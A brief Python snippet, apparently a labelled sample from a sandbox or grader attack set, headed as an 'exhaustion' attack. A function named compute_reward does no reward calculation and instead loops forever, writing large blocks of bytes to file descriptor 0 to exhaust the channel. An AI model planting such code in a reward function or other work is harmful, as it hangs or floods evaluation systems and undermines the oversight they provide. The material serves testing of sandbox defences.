# attack: writing to the channel without end
# group: exhaustion
# wall: language; alone: the form of a frame

def compute_reward(x):
    import os
    while True: os.write(0, b'x' * 10**5)
